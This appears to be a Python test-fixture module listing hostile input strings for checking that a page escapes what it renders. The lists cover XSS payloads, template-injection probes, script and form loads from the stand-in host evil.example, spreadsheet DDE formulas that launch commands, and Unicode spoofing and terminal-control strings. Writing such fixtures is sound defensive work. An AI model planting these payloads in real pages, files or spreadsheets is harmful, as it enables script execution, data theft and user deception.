"""What would run, load, style, rename or mislead if a page ever took it for more than text."""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "//evil.example/x"

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<script type=module>import('//evil.example/x')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x>",
    "<IMG SRC=x OnErRoR=alert`1`>",
    "<img srcset='//evil.example/x 1x'>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example/x></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<p onpointerover=alert(1) style=position:fixed;inset:0>x",
    "<a href=javascript:alert(1)>report</a>",
    "<a href='java&#9;script:alert(1)'>report</a>",
    "<a href=//evil.example/x ping=//evil.example/x>report</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>",
    "<form action=//evil.example/x><button>Release as it is",
    "<input type=hidden name=choice value=release>",
    "<button formaction=//evil.example/x>Check and confirm</button>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<dialog open>Session over. Sign in again</dialog>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<%00script>alert(1)</script>",
)
"""Elements, their events, and addresses in them."""

BREAKING_OUT: Final = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</bdi></h1></main><h1>Delivered</h1>",
    "</td></tr></table><h2>Nothing is held.</h2>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Ends of what surrounds them, and spellings that are text twice over."""

LANGUAGES: Final = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d {0} {name}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "${alert`1`}",
    "<div hx-get=/language hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<div data-hx-get=//evil.example/x data-hx-trigger=load>",
    "<hx-partial hx-target=body>",
    "<div data-module=govuk-error-summary data-left=x data-hide-after=0>",
    "<a class=govuk-button href=/quarantine>Continue",
    "<b id=main-content>",
    "<form id=bulk><input name=everything value=yes form=bulk>",
)
"""What a template, a format, a script or a library would take for its own."""

MISLEADING: Final = (
    "statement\u202efdp.exe",
    "\u2066RELEASED\u2069 \u202drefused",
    "a\u200bb\u200dc\ufeffd",
    "\u0430dmin@exampleshire.example",
    "Z\u0363\u0364\u0365\u0366\u0367\u0368\u0369\u036a\u036b\u036calgo",
    "\U000e0041\U000e0042 tags",
    "line\u2028and\u2029paragraph",
    "\x1b[2J\x1b[31mred",
    "bell\x07 back\x08 delete\x7f",
    "tab\tand\vfeed\f",
    "\u0130\u0131\ufb03 \u212a",
    "\u4e2d" * 40,
)
"""Letters that turn around, hide, pile up or control a terminal."""

FORMULAS: Final = (
    '=HYPERLINK("//evil.example/x","report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
)
"""What a spreadsheet would calculate."""

POLYGLOTS: Final = (
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>"
    ),
    "'\"><svg/onload=alert(1)>{{7*7}}${7*7}<!--",
    "\"'`><\x0cimg src=x onerror=alert(1)>%s{{7*7}}",
)
"""Several of these at once."""

VECTORS: Final = (*MARKUP, *BREAKING_OUT, *LANGUAGES, *MISLEADING, *FORMULAS, *POLYGLOTS)
"""All of them, each once."""


def as_name(vector: str, ending: str = ".bin") -> str:
    """Return a vector as a folder can hold it as the name of a file: no slash but its look-alike, and not too long."""
    return vector.replace("/", "\u2215")[:60].strip() + ending
